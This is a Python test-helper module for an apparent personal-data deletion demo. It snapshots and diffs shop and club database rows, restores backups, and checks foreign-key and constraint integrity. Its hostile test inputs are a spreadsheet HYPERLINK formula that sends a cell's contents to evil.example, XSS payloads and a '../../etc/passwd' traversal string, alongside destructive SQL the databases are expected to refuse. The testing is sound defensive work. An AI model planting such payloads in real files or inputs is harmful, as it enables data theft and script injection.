"""The example company and its club on one kind of database: every row of it, and what has changed since.

Whose a row is, is said in Python, from foreign keys and addresses: no map and nothing of the code that gathers is used.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple

import sqlalchemy as sa

from dsar.demo import shop_tables, systems
from dsar.demo.people import Person
from tests.exports.sources import small_company

Key = tuple[Any, ...]
Row = dict[str, Any]
Rows = Mapping[str, Mapping[Key, Row]]  # by system and table, such as ``shop/orders``, then by primary key

TABLES = {"shop": shop_tables.shop, "web_log": shop_tables.web_log, "club": small_company.tables}
CLUB = "CLUB_DATABASE"  # the environment variable with its address
WAYS = ("READ", "WRITE")
NASTY_TEXTS = (  # to spreadsheets, pages, and whoever tells texts from other values by their looks
    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    "+1 530 555 0199\t@SUM(A1:A9)",
    "<script>alert('x')</script> & <img src=x onerror=alert(1)> &amp; ]]>",
    "null",
    "",
    "'' \"quoted\", with a comma;\r\nCRLF, LF\n and an end \\",
    "Zoe\u0308 \U0001f9d1\u200d\U0001f33e \u202eright to left\u202c \u2028 \ufeff山",
    '{"$file": "../../etc/passwd"}',
    "200 kB: " + "Zoë's <b>long</b> text\n" * 9_000,
)
BY_ADDRESS = {  # beside the account, if they name one
    "shop/orders": "guest_email",
    "shop/support_tickets": "contact_email",
    "shop/newsletter_subscribers": "email",
    "club/members": "email",
}
ACCOUNTS = ("shop/customers", "club/members")
KEPT = {"shop/orders", "shop/order_lines", "shop/payments", "club/invoices"}  # for the tax office
NAMELESS: Mapping[str, Row] = {
    "shop/customers": {
        "email": None,
        "name": "[deleted]",
        "phone": None,
        "birth_date": None,
        "password_hash": "",
        "driver_licence_no": None,
        "marketing_email": False,
        "marketing_sms": False,
    },
    "club/members": {"name": "[gone]", "phone": None, "born": None, "picture": None, "opted_out": True},
}
RANDOM = {"shop/customers": "account_no", "club/members": "email"}
BREAKING = (
    ("shop", "UPDATE customers SET account_no = 'LO-100001' WHERE id = 2"),
    ("shop", "INSERT INTO wishlist_items (customer_id, product_id, added_at) VALUES (999999, 1, '2026-01-01')"),
    ("shop", "DELETE FROM customers"),
    ("shop", "DELETE FROM orders"),
    ("club", "UPDATE members SET email = 'guest1@mailbox.example' WHERE id <> 2001"),
    ("club", "DELETE FROM members"),
    ("web_log", "UPDATE web_devices SET device_id = 'one'"),
)
OF_ACCOUNT = ("addresses", "reviews", "avatars", "devices", "loyalty_entries", "wishlist_items")
HANGING = (  # a table, its column, and to the key of which table that leads
    *((f"shop/{name}", "customer_id", "shop/customers") for name in OF_ACCOUNT),
    ("shop/order_lines", "order_id", "shop/orders"),
    ("shop/payments", "order_id", "shop/orders"),
    ("shop/ticket_messages", "ticket_id", "shop/support_tickets"),
    ("web_log/web_devices", "device_id", "shop/devices"),
    ("web_log/page_views", "device_id", "shop/devices"),
    ("web_log/ad_segments", "device_id", "shop/devices"),
    ("club/letters", "member_id", "club/members"),
    ("club/invoices", "member_id", "club/members"),
    ("club/stamps", "letter_id", "club/letters"),
)


class Changes(NamedTuple):
    """What differs between two looks at all rows: which are gone or new, and the cells with what is in them now."""

    gone: dict[str, set[Key]]
    new: dict[str, set[Key]]
    cells: dict[tuple[str, Key], Row]


@dataclass(frozen=True)
class Company:
    """Its systems, by the URLs of their databases."""

    urls: Mapping[str, str]

    @property
    def addresses(self) -> dict[str, str]:
        """The environment variables with which its sources are read and written."""
        ways = {f"{variable}_{way}_URL": name for name, variable in systems.VARIABLES.items() for way in WAYS}
        return {variable: self.urls[name] for variable, name in ways.items()} | {CLUB: self.urls["club"]}

    @contextmanager
    def connected(self, system: str) -> Iterator[sa.Connection]:
        """A way of one's own into a system; what is done there is undone."""
        engine = sa.create_engine(self.urls[system])
        with engine.connect() as connection:
            if connection.dialect.name == "sqlite":
                connection.exec_driver_sql("PRAGMA foreign_keys = ON")  # which its driver leaves off
            yield connection
        engine.dispose()

    def rows(self) -> Rows:
        """Every row of every table."""
        found: dict[str, Mapping[Key, Row]] = {}
        for system, tables in TABLES.items():
            with self.connected(system) as connection:
                assert set(sa.inspect(connection).get_table_names()) == set(tables.tables)
                found |= {f"{system}/{table.name}": _rows(connection, table) for table in tables.sorted_tables}
        return found

    def changes(self, before: Rows) -> Changes:
        """What has changed since a look at all rows."""
        after = self.rows()
        return Changes(_missing(before, after), _missing(after, before), dict(_cells(before, after)))

    def back_up(self, folder: Path, before: Rows) -> Callable[[], None]:
        """Make a backup of all systems, with these rows; gives what restores it: files, or what changed on a server."""
        files = {Path(url.removeprefix("sqlite:///")): folder / name for name, url in self.urls.items()}
        files = {file: copy for file, copy in files.items() if file.exists()}
        for file, copy in files.items():
            shutil.copyfile(file, copy)

        def restore() -> None:
            for file, copy in files.items():
                shutil.copyfile(copy, file)
            self._put_back(before)
            assert self.rows() == before

        return restore

    def _put_back(self, before: Rows) -> None:
        gone, _new, cells = self.changes(before)
        for system, tables in TABLES.items():
            with self.connected(system) as connection:
                for table in tables.sorted_tables:  # what is pointed to before what points to it
                    name = f"{system}/{table.name}"
                    for key in gone.get(name, ()):
                        connection.execute(table.insert().values(before[name][key]))
                    for key in (key for changed, key in cells if changed == name):
                        same = [column == part for column, part in zip(table.primary_key, key, strict=True)]
                        connection.execute(table.update().where(*same).values(before[name][key]))
                connection.commit()

    def orphans(self) -> list[str]:
        """The foreign keys, as the databases themselves tell them, that lead nowhere: none, if all is well."""
        found = []
        for system in TABLES:
            with self.connected(system) as connection:
                found += [
                    f"{system}/{pointer}" for pointer in _pointers(connection) if _lead_nowhere(connection, pointer)
                ]
        return found

    def refuses(self, system: str, statement: str) -> bool:
        """Whether a database refuses a statement that breaks one of its constraints; nothing of it stays."""
        with self.connected(system) as connection:
            try:
                connection.execute(sa.text(statement))
            except sa.exc.IntegrityError:
                return True
            return False


class Pointer(NamedTuple):
    """A foreign key."""

    table: str
    columns: Sequence[str]
    parent: str
    keys: Sequence[str]


def _rows(connection: sa.Connection, table: sa.Table) -> dict[Key, Row]:
    keys = [column.name for column in table.primary_key]
    found = connection.execute(sa.select(table)).mappings()
    return {tuple(row[name] for name in keys): dict(row) for row in found}


def _missing(before: Rows, after: Rows) -> dict[str, set[Key]]:
    missing = {name: rows.keys() - after[name].keys() for name, rows in before.items()}
    return {name: keys for name, keys in missing.items() if keys}


def _cells(before: Rows, after: Rows) -> Iterator[tuple[tuple[str, Key], Row]]:
    for name, rows in after.items():
        for key, row in rows.items():
            was = before[name].get(key, row)
            if was != row:
                yield (name, key), {column: value for column, value in row.items() if was[column] != value}


def _pointers(connection: sa.Connection) -> Iterator[Pointer]:
    inspector = sa.inspect(connection)
    for table in inspector.get_table_names():
        for key in inspector.get_foreign_keys(table):
            yield Pointer(table, key["constrained_columns"], key["referred_table"], key["referred_columns"])


def _lead_nowhere(connection: sa.Connection, pointer: Pointer) -> bool:
    held = " AND ".join(f"child.{column} IS NOT NULL" for column in pointer.columns)
    pairs = zip(pointer.columns, pointer.keys, strict=True)
    same = " AND ".join(f"parent.{key} = child.{column}" for column, key in pairs)
    nowhere = f"NOT EXISTS (SELECT 1 FROM {pointer.parent} AS parent WHERE {same})"
    query = f"SELECT count(*) FROM {pointer.table} AS child WHERE {held} AND {nowhere}"
    return bool(connection.execute(sa.text(query)).scalar())


def of_person(rows: Rows, who: Person) -> dict[str, dict[Key, Row]]:
    """The rows of one person in all systems."""
    mail = (who.email or "-").lower()
    accounts = rows["shop/customers"]
    found = {"shop/customers": {key: row for key, row in accounts.items() if row["account_no"] == who.account_no}}
    for name, column in BY_ADDRESS.items():
        found[name] = {
            key: row
            for key, row in rows[name].items()
            if row.get("customer_id") == who.id or str(row[column] or "").lower() == mail
        }
    for name, column, parent in HANGING:
        parents = {key[0] for key in found[parent]}
        found[name] = {key: row for key, row in rows[name].items() if row[column] in parents}
    return {name: theirs for name, theirs in found.items() if theirs}


def club_of(people: Sequence[Person]) -> dict[str, list[Row]]:
    """The rows of a club whose members these people are: each has two letters, a stamp on each, and an invoice.

    The first one has more letters, one for each nasty text.
    """
    members = [
        small_company.ANN
        | {"id": who.id, "email": who.email, "name": who.name, "phone": who.phone, "born": who.birth_date}
        for who in people
    ]
    letters = [
        {"id": 10 * who.id + number, "member_id": who.id, "body": f"{who.name}, letter {number}", "sent_at": sent_at}
        for who in people
        for number, sent_at in enumerate(letter["sent_at"] for letter in small_company.LETTERS[:2])
    ]
    nasty = [
        {"id": 10_000 + number, "member_id": people[0].id, "body": body, "sent_at": None}
        for number, body in enumerate(NASTY_TEXTS)
    ]
    return {
        "members": members,
        "letters": letters + nasty,
        "stamps": [{"letter_id": letter["id"], "place": "top", "cents": 60} for letter in letters],
        "invoices": [{"id": who.id, "member_id": who.id, "cents": 500} for who in people],
    }


def deleted(company: Company, before: Rows) -> Changes:
    """What a deletion has changed, but for the names of chance that all accounts bear now."""
    changes = company.changes(before)
    assert all(RANDOM[name] in cells for (name, _key), cells in changes.cells.items() if name in RANDOM)
    return but_for_chance(changes, before)


def but_for_chance(changes: Changes, before: Rows) -> Changes:
    """What has changed, without the names of chance that accounts bear now: those are like nobody's before."""
    for (name, _key), cells in changes.cells.items():
        if name in RANDOM and RANDOM[name] in cells:
            by_chance = cells.pop(RANDOM[name])
            assert by_chance not in {row[RANDOM[name]] for row in before[name].values()}
    return changes._replace(cells={place: cells for place, cells in changes.cells.items() if cells})


def as_planned(theirs: Rows) -> Changes:
    """What a deletion of these rows changes by the maps: accounts name nobody, what the law wants is kept."""
    gone = {name: set(rows) for name, rows in theirs.items() if name not in KEPT and name not in ACCOUNTS}
    cells = {
        (name, key): {column: value for column, value in NAMELESS[name].items() if row[column] != value}
        for name in ACCOUNTS
        for key, row in theirs.get(name, {}).items()
    }
    return Changes(gone, {}, cells)


def flagged(theirs: Rows, flags: Mapping[str, Row]) -> Changes:
    """What is changed by flags that are set, by table, on all of these rows: what was not so before."""
    cells = {
        (name, key): {column: value for column, value in wanted.items() if row[column] != value}
        for name, wanted in flags.items()
        for key, row in theirs[name].items()
    }
    assert {name for (name, _key), changed in cells.items() if changed} == flags.keys(), "else this would show nothing"
    return Changes({}, {}, {place: changed for place, changed in cells.items() if changed})


def assert_constraints_hold(company: Company) -> None:
    """No row points to one that is gone, and each database refuses what it refused on its first day."""
    assert company.orphans() == []
    assert [statement for system, statement in BREAKING if not company.refuses(system, statement)] == []
